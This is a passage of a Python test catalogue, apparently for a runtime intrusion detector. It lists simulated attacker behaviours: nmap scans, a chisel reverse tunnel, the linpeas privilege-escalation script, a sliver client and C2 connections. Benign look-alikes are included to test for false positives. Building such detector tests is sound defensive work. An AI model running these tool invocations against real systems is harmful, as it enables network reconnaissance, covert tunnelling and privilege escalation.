            "ordinary-miner-name",
            "a word that begins like a miner",
            ("/usr/local/bin/xmrigger-docs",),
            look_alike=CRYPTO_MINER,
        ),
        Behaviour(
            "ordinary-miner-grep",
            "somebody looks for miners",
            sh("ps aux | grep -c xmrig; grep -r stratum+tcp:// /etc/hostname; true"),
            look_alike=CRYPTO_MINER,
        ),
        tool("nmap", "nmap by name", ("/usr/local/bin/nmap", "-sS", "{ip}")),
        tool(
            "nmap-renamed",
            "nmap's arguments under another name",
            ("/usr/local/bin/worker", "-sS", "-p-", "-T4", "{ip}"),
        ),
        tool("tcpdump", "tcpdump", ("/usr/local/bin/tcpdump", "-i", "any")),
        tool("sliver", "an offensive framework's client", ("/usr/local/bin/sliver-client",)),
        tool("chisel", "a tunnel", ("/usr/local/bin/chisel", "client", "{ip}:{port}", "R:socks")),
        tool("linpeas", "a script that looks for ways to become root", ("/opt/attacks/linpeas.sh",)),
        tool("linpeas-stdin", "the same by its interpreter", ("/bin/sh", "/opt/attacks/linpeas.sh", "-a")),
        Behaviour(
            "ordinary-tool-word",
            "a word that resembles a tool",
            ("/usr/local/bin/nmapper", "--help"),
            look_alike=SUSPICIOUS_TOOL,
        ),
        Behaviour(
            "ordinary-tool-argument",
            "a tool's name as an argument",
            sh("echo nmap hydra > /dev/null; cat /usr/local/bin/nmap > /dev/null"),
            look_alike=SUSPICIOUS_TOOL,
        ),
        Behaviour(
            "ordinary-tool-operator",
            "an operator named like a tool",
            ("/usr/local/bin/hydra-operator",),
            look_alike=SUSPICIOUS_TOOL,
        ),
        Behaviour(
            "ordinary-tool-directory",
            "a directory named like a tool",
            ("/home/dev/hydra-docs/build",),
            look_alike=SUSPICIOUS_TOOL,
        ),
    ]


def _command_and_control() -> list[Behaviour]:
    return [
        Behaviour("c2-tcp", "connects to a listed address", ("{bin}/net", "tcp", C2_LISTED_IP, "443"), (C2_IP,)),
        Behaviour(
            "c2-udp", "sends a datagram to a listed address", ("{bin}/net", "udp", C2_LISTED_IP, "443"), (C2_IP,)
        ),
        Behaviour(
            "c2-udp-connected",
            "connects a UDP socket to a listed address",
            ("{bin}/net", "udp-connected", C2_LISTED_IP, "443"),
            (C2_IP,),
        ),
        Behaviour("c2-ipv6", "a listed IPv6 network", ("{bin}/net", "tcp", "2001:db8:bad::1", "443"), (C2_IP,)),
        Behaviour(
            "c2-host",
            "connects to a listed address from the host",
            ("{bin}/net", "tcp", C2_LISTED_IP, "443"),
            (C2_IP,),
            where="host",
        ),
        Behaviour(
            "c2-dns", "looks up a listed domain", ("{bin}/net", "dns", "{resolver}", C2_LISTED_DOMAIN), (C2_DOMAIN,)
        ),
        Behaviour(
            "c2-dns-subdomain",
            "looks up a name below a listed domain, in capitals",
            ("{bin}/net", "dns", "{resolver}", f"A.B.{C2_LISTED_DOMAIN}".upper()),
            (C2_DOMAIN,),
        ),
        Behaviour(
            "c2-dns-tcp",
            "looks up a listed domain by TCP",
            ("{bin}/net", "dns-tcp", "{resolver}", C2_LISTED_DOMAIN),
            (C2_DOMAIN,),
            listener="hold",
        ),
        Behaviour(
            "ordinary-connect",
            "connects to an address that is not listed",
            ("{bin}/net", "tcp", "203.0.113.78", "443"),
            look_alike=C2_IP,
        ),
        Behaviour(
            "ordinary-dns",
            "a name that merely ends like a listed one",
            ("{bin}/net", "dns", "{resolver}", f"not{C2_LISTED_DOMAIN}"),
            look_alike=C2_DOMAIN,
        ),
    ]


CATALOGUE: tuple[Behaviour, ...] = (
    *_reverse_shells(),
    *_ordinary_shells(),
    *_new_binaries(),
    *_fileless(),
    *_injection(),
    *_escapes(),
    *_tools(),
    *_command_and_control(),
)
"""Every behaviour. Attacks have `findings`; ordinary ones have none and say what they look like."""


def by_name(name: str) -> Behaviour:
    """Return the behaviour of this name.

    Raises:
        KeyError: there is none.
    """
    for behaviour in CATALOGUE:
        if behaviour.name == name:
            return behaviour
    raise KeyError(name)
